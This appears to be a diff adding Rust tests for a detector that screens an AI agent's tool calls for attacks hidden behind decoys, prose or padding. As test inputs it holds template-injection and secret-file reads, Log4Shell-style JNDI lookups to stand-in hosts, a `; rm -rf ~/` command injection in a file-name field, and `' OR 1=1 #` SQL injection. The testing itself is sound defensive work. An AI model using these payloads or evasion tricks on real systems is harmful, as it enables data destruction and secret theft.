@@ -4654,3 +4654,84 @@ fn what_blind29_taught() {
     let f = inspector().inspect_call("mail.read", &json!({ "body": report }), None).unwrap().findings;
     assert!(!f.iter().any(|x| x.rule == "prompt.secret-payment"), "{f:?}");
 }
+
+/// Harmless template matches before a dangerous one no longer hide it:
+/// a walk to `__subclasses__` after seventeen dunders named in a list (16
+/// bare matches were read), a Ruby read of `config/master.key` after five
+/// reads of public files in one ERB expression (4 reads of a call were
+/// read), and a live JNDI lookup after seventeen defanged ones (16 lookups
+/// were read) are flagged; the decoys alone are not.
+#[test]
+fn decoys_do_not_use_up_the_template_matches() {
+    let names = "__mro__, ".repeat(17);
+    let expr = |e: String| ("rules.evaluate", json!({ "expression": e }));
+    let walk = "''.__class__.__mro__[1].__subclasses__()";
+    acts_on_attacks_only(&[expr(walk.to_owned())], &[]);
+    acts_on_attacks_only(&[expr(format!("{names}{walk}"))], &[expr(format!("{names}__init__"))]);
+    let reads = "File.read('README.md'), ".repeat(5);
+    let erb = |e: String| ("template.render", json!({"engine": "erb", "template": format!("Notes: <%= [{e}].join %>")}));
+    let secret = "File.read('config/master.key')";
+    acts_on_attacks_only(&[erb(secret.to_owned())], &[]);
+    acts_on_attacks_only(&[erb(format!("{reads}{secret}"))], &[erb(format!("{reads}File.read('CHANGELOG.md')"))]);
+    let defanged = "${jndi:ldap://evil[.]example/a} ".repeat(17);
+    let log = |m: String| ("log.write", json!({ "message": m }));
+    let live = "${jndi:ldap://203.0.113.9/a}";
+    acts_on_attacks_only(&[log(live.to_owned())], &[]);
+    acts_on_attacks_only(&[log(format!("{defanged}{live}"))], &[log(format!("{defanged}seen in the proxy log"))]);
+}
+
+/// Every line or sentence of a long value that reads as a value after
+/// prose is read as one, not the last only, and each is cut at its
+/// comment: an image tool's `input` of a paragraph, then
+/// `avatar.png; rm -rf ~/`, then `thanks` (a shell runs every line), the
+/// same line followed by `# ` and sentences or by a 300-byte comment (the
+/// shell ignores the rest of the line), and `Avatar.png; rm -rf ~/` (a
+/// capitalized file name is no sentence) were missed at every confidence.
+/// The same paragraphs around a file name alone, a ticket number or a
+/// capitalized file name in a sentence are not flagged.
+#[test]
+fn every_value_line_after_prose_is_read() {
+    let prose = "The quarterly report covers revenue and churn for every region. It was reviewed by the finance team last week. ";
+    let input = |v: String| ("image.convert", json!({ "input": v, "output": "thumb.png" }));
+    let attacks = [
+        input(format!("{prose}\navatar.png; rm -rf ~/\nthanks")),
+        input(format!("{prose}\navatar.png; rm -rf ~/\n{prose}")),
+        input(format!("{prose}\navatar.png; rm -rf ~/ # {prose}")),
+        input(format!("{prose}\navatar.png; rm -rf ~/ #{}", "x".repeat(300))),
+        input(format!("{prose}\nAvatar.png; rm -rf ~/")),
+    ];
+    let legit = [
+        input(format!("{prose}\nassets/avatar.png\nthanks")),
+        input(format!("{prose}\nsee ticket #42 for the crop; {prose}")),
+        input(format!("{prose}\navatar.png # {prose}")),
+        input(format!("{prose}\nAvatar.png is the new logo, cropped to 64/64.")),
+    ];
+    acts_on_attacks_only(&attacks, &legit);
+}
+
+/// The end of a long value after filler rather than sentences is read as
+/// a value: `x` six hundred times, a hundred words, or an address padded
+/// to 600 bytes, then `' OR 1=1 #` in an `email` field (a text field of
+/// more than 600 bytes is a document to the SQL rules, and without a
+/// sentence end there was no tail), or `x` six hundred times then
+/// `; rm -rf ~/` in an image tool's `input`, were missed at every
+/// confidence. The same filler before a plain ending is not flagged.
+#[test]
+fn filler_before_a_value_end_does_not_hide_it() {
+    let (x, words, address) = ("x".repeat(600), "word ".repeat(120), format!("{}@example.com", "a".repeat(590)));
+    let email = |v: String| ("crm.update_contact", json!({ "email": v }));
+    let input = |v: String| ("image.convert", json!({ "input": v, "output": "thumb.png" }));
+    let attacks = [
+        email(format!("{x} ' OR 1=1 #")),
+        email(format!("{words}' OR 1=1 #")),
+        email(format!("{address}' OR 1=1 #")),
+        input(format!("{x} ; rm -rf ~/")),
+    ];
+    let legit = [
+        email(format!("{x} it's fine")),
+        email(format!("{words}the 'beta' flag and more")),
+        email(address.clone()),
+        input(format!("{x} thumb.png")),
+    ];
+    acts_on_attacks_only(&attacks, &legit);
+}
